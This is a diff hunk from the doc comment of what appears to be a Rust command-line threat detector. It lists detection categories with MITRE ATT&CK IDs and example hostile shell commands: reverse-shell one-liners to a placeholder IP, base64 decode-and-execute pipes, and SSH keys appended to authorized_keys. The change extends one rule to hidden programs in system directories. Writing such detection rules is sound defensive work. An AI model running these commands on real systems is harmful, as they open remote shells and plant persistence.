@@ -13,7 +13,7 @@
 //! | decode and execute | `decode-execute` | T1140, T1059.004 | `echo ... \| base64 -d \| sh`, `eval "$(echo ... \| base64 -d)"`, `python -c 'exec(base64.b64decode(...))'` |
 //! | reverse shell | `reverse-shell` | T1059.004, T1095 | `bash -i >& /dev/tcp/IP/PORT 0>&1`, `nc -e /bin/sh IP PORT`, `socat exec:...`, `mkfifo` + `nc`, `python -c '...socket...pty.spawn...'` |
 //! | ingress tool transfer | `download` | T1105 | a download into `/tmp`, `/var/tmp`, `/dev/shm` or from a bare IP address |
-//! | run from a temporary directory | `temp-execution` | T1059.004 | `/tmp/.x/kdevtmpfsi`, `sh /dev/shm/x.sh`, a program in a `...` directory |
+//! | run from a temporary or hidden directory | `temp-execution` | T1059.004 | `/tmp/.x/kdevtmpfsi`, `sh /dev/shm/x.sh`, a program in a `...` directory, a hidden program in a system directory (`/usr/bin/.sshd`, `/etc/.kthreadd`) |
 //! | decoding | `decode` | T1140 | `base64 -d`, `xxd -r` without execution |
 //! | SSH key added | `ssh-key-add` | T1098.004 | `echo ssh-rsa ... >> ~/.ssh/authorized_keys`, `ssh-copy-id` |
 //! | account created | `account-create` | T1136.001 | `useradd`, `adduser`, appending to `/etc/passwd` |
